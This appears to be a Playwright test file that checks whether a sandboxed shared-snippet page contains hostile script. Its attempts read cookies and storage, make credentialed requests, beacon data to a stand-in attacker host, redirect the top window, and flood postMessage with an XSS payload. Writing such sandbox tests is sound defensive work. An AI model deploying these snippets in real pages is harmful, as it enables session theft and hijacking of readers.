import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hasBrowser, launchBrowser } from '../support/pages/browser.ts';
import { openContext } from '../support/pages/open-page.ts';
import { serveElsewhere } from '../support/service/third-party-server.ts';
import { serveShares } from '../support/shares/serve-shares.ts';

/**
 * A snippet with a button per attempt that writes the result of the attempt.
 * Attempts are function bodies with the parameters `service` and `attacker`.
 */
const snippet = (
  attempts: Readonly<Record<string, string>>,
  { service, attacker }: { service: string; attacker: string },
): string => `<!doctype html><title>Hostile</title><body>
<script>
const [service, attacker] = ${JSON.stringify([service, attacker])};
const attempt = (name, act) => {
  const button = document.body.appendChild(document.createElement('button'));
  const result = document.body.appendChild(document.createElement('output'));
  button.textContent = name;
  result.id = name;
  button.onclick = async () => {
    try { result.textContent = 'done: ' + await act(); } catch (error) { result.textContent = 'failed: ' + error.name; }
  };
};
${Object.entries(attempts)
  .map(([name, act]) => `attempt(${JSON.stringify(name)}, async () => { ${act} });`)
  .join('\n')}
</script>`;

describe.skipIf(!hasBrowser)('a hostile share in a browser', { timeout: 120_000 }, () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchBrowser();
  });
  afterAll(() => browser?.close());

  /** Opens a share with these attempts as a signed-in user. */
  const openHostile = async (attempts: Readonly<Record<string, string>>) => {
    const { service, person, share } = await serveShares();
    const attacker = await serveElsewhere();
    const url = await share({ content: snippet(attempts, { service, attacker: attacker.url }) });
    const context = await openContext(browser);
    const page = await context.newPage();
    page.setDefaultTimeout(20_000);
    await page.goto(`${service}/login?next=/account`);
    await page.getByLabel('Email').fill(person.email);
    await page.getByLabel('Password', { exact: true }).fill(person.password);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.waitForURL(`${service}/account`);
    await page.evaluate('localStorage.setItem("draft", "unsent text")');
    await page.goto(url);
    const frame = page.frameLocator('iframe');
    const attempt = async (name: string): Promise<string> => {
      await frame.getByRole('button', { name, exact: true }).click();
      const result = frame.locator(`output[id="${name}"]`);
      await result.filter({ hasText: /./ }).waitFor();
      return result.innerText();
    };
    return { page, context, frame, attempt, service, url, asked: attacker.asked };
  };

  /** Runs all attempts, one after another, and returns their results. */
  const resultsOf = async (
    attempts: Readonly<Record<string, string>>,
    attempt: (name: string) => Promise<string>,
  ) => {
    const results: Record<string, string> = {};
    for (const name of Object.keys(attempts)) results[name] = await attempt(name);
    return results;
  };

  /** Checks that the page still shows the share and responds to its reader. */
  const expectUnmoved = async (page: Page, url: string) => {
    expect(page.url()).toBe(url);
    await page.getByRole('button', { name: 'Copy link' }).click({ trial: true });
    expect(await page.getByRole('link', { name: 'Report' }).isVisible()).toBe(true);
  };

  const reaches = {
    'read cookies': 'return document.cookie',
    'set a cookie': 'document.cookie = "a=b"',
    localStorage: 'return localStorage.draft',
    sessionStorage: 'sessionStorage.a = 1',
    IndexedDB: `return new Promise((done, failed) => {
      const request = indexedDB.open("a");
      request.onsuccess = () => done("opened");
      request.onerror = () => failed(request.error);
    })`,
    caches: 'await caches.open("a")',
    'a service worker': 'await navigator.serviceWorker.register("/worker.js")',
    'its parent': 'return parent.document.title',
    'the top': 'return top.document.body.innerHTML',
    'the address of the top': 'return top.location.href',
    'the frame around it': 'return frameElement.outerHTML',
  };

  it('reaches no cookie, storage or page, framed or opened directly', async () => {
    const { page, frame, attempt } = await openHostile(reaches);
    expect(await resultsOf(reaches, attempt)).toMatchInlineSnapshot(`
      {
        "IndexedDB": "failed: SecurityError",
        "a service worker": "failed: SecurityError",
        "caches": "failed: SecurityError",
        "its parent": "failed: SecurityError",
        "localStorage": "failed: SecurityError",
        "read cookies": "failed: SecurityError",
        "sessionStorage": "failed: SecurityError",
        "set a cookie": "failed: SecurityError",
        "the address of the top": "failed: SecurityError",
        "the frame around it": "failed: TypeError",
        "the top": "failed: SecurityError",
      }
    `);
    const own = await frame.locator('body').evaluate('location.href');
    await page.goto(own as string);
    for (const name of ['read cookies', 'localStorage', 'IndexedDB', 'a service worker']) {
      await page.getByRole('button', { name, exact: true }).click();
      const result = page.locator(`output[id="${name}"]`);
      await result.filter({ hasText: 'failed: SecurityError' }).waitFor();
    }
  });

  const requests = {
    fetch: 'await fetch(service + "/api/auth/me", { credentials: "include" })',
    'fetch without CORS':
      'await fetch(service + "/api/auth/me", { credentials: "include", mode: "no-cors" })',
    'fetch elsewhere': 'await fetch(attacker + "/fetched")',
    XMLHttpRequest: `return new Promise((done, failed) => {
      const request = new XMLHttpRequest();
      request.open("GET", service + "/api/auth/me");
      request.withCredentials = true;
      request.onload = () => done(request.responseText);
      request.onerror = () => failed(new Error());
      request.send();
    })`,
    WebSocket: `return new Promise((done, failed) => {
      const socket = new WebSocket(attacker.replace("http", "ws"));
      socket.onopen = () => done("opened");
      socket.onerror = () => failed(new Error());
    })`,
    EventSource: `return new Promise((done, failed) => {
      const source = new EventSource(attacker + "/events");
      source.onopen = () => done("opened");
      source.onerror = () => failed(new Error());
    })`,
    'a worker that fetches': `return new Promise((done, failed) => {
      const code = "fetch('" + attacker + "/worker').then(() => postMessage('fetched'), () => postMessage('refused'))";
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      worker.onmessage = ({ data }) => data === "fetched" ? done(data) : failed(new Error(data));
      worker.onerror = () => failed(new Error());
    })`,
    'a frame of the service': `return new Promise((done, failed) => {
      const frame = document.body.appendChild(document.createElement("iframe"));
      frame.onload = () => {
        try { done(frame.contentDocument.title) } catch (error) { failed(error) }
      };
      frame.src = service + "/account";
    })`,
  };

  /** Requests without a result for the script. */
  const silentRequests = {
    sendBeacon: 'navigator.sendBeacon(service + "/api/auth/logout", "{}")',
    'a form': `const form = document.body.appendChild(document.createElement("form"));
      form.method = "post"; form.action = service + "/api/auth/logout"; form.submit()`,
    'a form to the top': `const form = document.body.appendChild(document.createElement("form"));
      form.method = "post"; form.action = attacker + "/form"; form.target = "_top"; form.submit()`,
    'a form in a new window': `const form = document.body.appendChild(document.createElement("form"));
      form.method = "post"; form.action = attacker + "/form"; form.target = "_blank"; form.submit()`,
    'a picture': 'new Image().src = attacker + "/picture?" + document.title',
    'a prefetch': `const link = document.head.appendChild(document.createElement("link"));
      link.rel = "prefetch"; link.href = attacker + "/prefetched"`,
    'an import': 'import(attacker + "/module.js").catch(() => {})',
    'its own address': 'location = attacker + "/moved"',
  };

  it('sends no request to the service with the reader’s session or to another host', async () => {
    const all = { ...requests, ...silentRequests };
    const { page, context, frame, attempt, service, url, asked } = await openHostile(all);
    const responses: string[] = [];
    context.on('response', (response) => responses.push(new URL(response.url()).pathname));
    const results = await resultsOf(requests, attempt);
    expect(Object.values(results).filter((result) => !result.startsWith('failed'))).toEqual([]);
    for (const name of Object.keys(silentRequests)) {
      await page.reload();
      await frame.getByRole('button', { name, exact: true }).click();
      // Chromium shows an error page in the frame after blocking its navigation.
      const isExpired = () =>
        page.frames().some((one) => one.url().startsWith('chrome-error:')) ||
        page.frames()[1]?.locator(`output[id="${name}"]`, { hasText: /./ }).isVisible();
      await expect.poll(isExpired, { message: name, timeout: 8_000 }).toBe(true);
    }
    // Earlier requests would have arrived before this one.
    await page.request.get(`${service}/health`);
    expect(asked).toEqual([]);
    expect(responses.filter((path) => path === '/account' || path.startsWith('/api/'))).toEqual([]);
    await page.reload();
    await expectUnmoved(page, url);
    expect((await page.request.get(`${service}/api/auth/me`)).status()).toBe(200);
  });

  const moves = {
    'top.location': 'top.location = attacker',
    'parent.location.replace': 'parent.location.replace(attacker)',
    'top.close': 'top.close()',
    'open in the top': 'return String(open(attacker, "_top"))',
    'a link to the top': `const link = document.body.appendChild(document.createElement("a"));
      link.href = attacker; link.target = "_top"; link.click()`,
    'a link of the parent': `const link = document.body.appendChild(document.createElement("a"));
      link.href = attacker; link.target = "_parent"; link.click()`,
    'a base of the top': `document.head.appendChild(document.createElement("base")).target = "_top";
      const link = document.body.appendChild(document.createElement("a")); link.href = attacker; link.click()`,
    'a script in the top': 'top.location = "javascript:document.title=1"',
    'the history': 'history.pushState({}, "", service)',
    fullscreen: 'await document.documentElement.requestFullscreen()',
    'the pointer': 'await document.body.requestPointerLock()',
    clipboard: 'return navigator.clipboard.readText()',
    place: `return new Promise((done, failed) => navigator.geolocation.getCurrentPosition(
      () => done("here"), ({ code }) => failed(Object.assign(new Error(), { name: "code " + code }))))`,
  };

  it('navigates neither the page nor its reader', async () => {
    const { page, attempt, url, asked } = await openHostile(moves);
    expect(await resultsOf(moves, attempt)).toMatchInlineSnapshot(`
      {
        "a base of the top": "done: undefined",
        "a link of the parent": "done: undefined",
        "a link to the top": "done: undefined",
        "a script in the top": "failed: SecurityError",
        "clipboard": "failed: NotAllowedError",
        "fullscreen": "failed: TypeError",
        "open in the top": "done: null",
        "parent.location.replace": "failed: SecurityError",
        "place": "failed: code 1",
        "the history": "failed: SecurityError",
        "the pointer": "failed: SecurityError",
        "top.close": "done: undefined",
        "top.location": "failed: SecurityError",
      }
    `);
    expect(asked).toEqual([]);
    expect(await page.title()).toBe('Shared snippet');
    expect(await page.evaluate('document.fullscreenElement')).toBe(null);
    await expectUnmoved(page, url);
  });

  const popups = {
    'open elsewhere': 'return String(open(attacker))',
    'open with an opener': `const link = document.body.appendChild(document.createElement("a"));
      link.href = attacker; link.target = "_blank"; link.rel = "opener"; link.click()`,
    'open nothing': 'const opened = open("about:blank"); opened.document.write("mine")',
    'open the service': 'return open(service + "/account").document.title',
    'open itself': 'return open(location.href).document.title',
  };

  it('opens windows without a reference in either direction', async () => {
    const { page, context, attempt, url, service } = await openHostile(popups);
    const results: Record<string, string> = {};
    for (const name of Object.keys(popups)) {
      const [popup] = await Promise.all([context.waitForEvent('page'), attempt(name)]);
      results[name] = await page.frameLocator('iframe').locator(`output[id="${name}"]`).innerText();
      await popup.waitForLoadState();
      // A page of the service that is opened from another site loads itself again.
      const readOpener = () => popup.evaluate('String(window.opener)').catch(String);
      await expect.poll(readOpener, { message: name, timeout: 8_000 }).toBe('null');
      if (name === 'open itself') {
        expect(await popup.evaluate('self.origin')).toBe('null');
      }
      await popup.close();
    }
    expect(results).toMatchInlineSnapshot(`
      {
        "open elsewhere": "done: null",
        "open itself": "failed: TypeError",
        "open nothing": "failed: TypeError",
        "open the service": "failed: TypeError",
        "open with an opener": "done: undefined",
      }
    `);
    await expectUnmoved(page, url);
    expect((await page.request.get(`${service}/api/auth/me`)).status()).toBe(200);
  });

  it('saves a file without navigating the page', async () => {
    const save = `const link = document.body.appendChild(document.createElement("a"));
      link.href = URL.createObjectURL(new Blob(["text"])); link.download = "a.txt"; link.click()`;
    const { page, attempt, url } = await openHostile({ save });
    const [saved] = await Promise.all([page.waitForEvent('download'), attempt('save')]);
    expect(saved.suggestedFilename()).toBe('a.txt');
    await expectUnmoved(page, url);
  });

  it('neither forges nor hides the notice of the page', async () => {
    const flood = `for (let at = 0; at < 20_000; at++) {
        parent.postMessage({ blocked: [["<b>x</b>", "<img src=x onerror=alert(1)>" + at + "x".repeat(9_000)]] }, "*");
      }
      for (const odd of [null, 1, "blocked", [], { blocked: 1 }, { blocked: [null, [{}, []]] }]) parent.postMessage(odd, "*");
      return "sent"`;
    const odd = `for (const odd of [null, 1, "blocked", [], { blocked: 1 }, { blocked: [null] }, { blocked: Array(10_000).fill(["img-src", "x"]) }]) parent.postMessage(odd, "*")`;
    const { page, attempt, url } = await openHostile({ odd, flood });
    const failures: string[] = [];
    page.on('pageerror', ({ message }) => failures.push(message));
    await attempt('odd');
    await attempt('flood');
    await page.locator('.blocked summary').click();
    const lines = await page.locator('.blocked li').allInnerTexts();
    expect(lines.length).toBeLessThanOrEqual(8);
    expect(Math.max(...lines.map(({ length }) => length))).toBeLessThanOrEqual(120);
    expect(await page.locator('.blocked :is(img, b)').count()).toBe(0);
    expect(failures).toEqual([]);
    await expectUnmoved(page, url);
  });
});
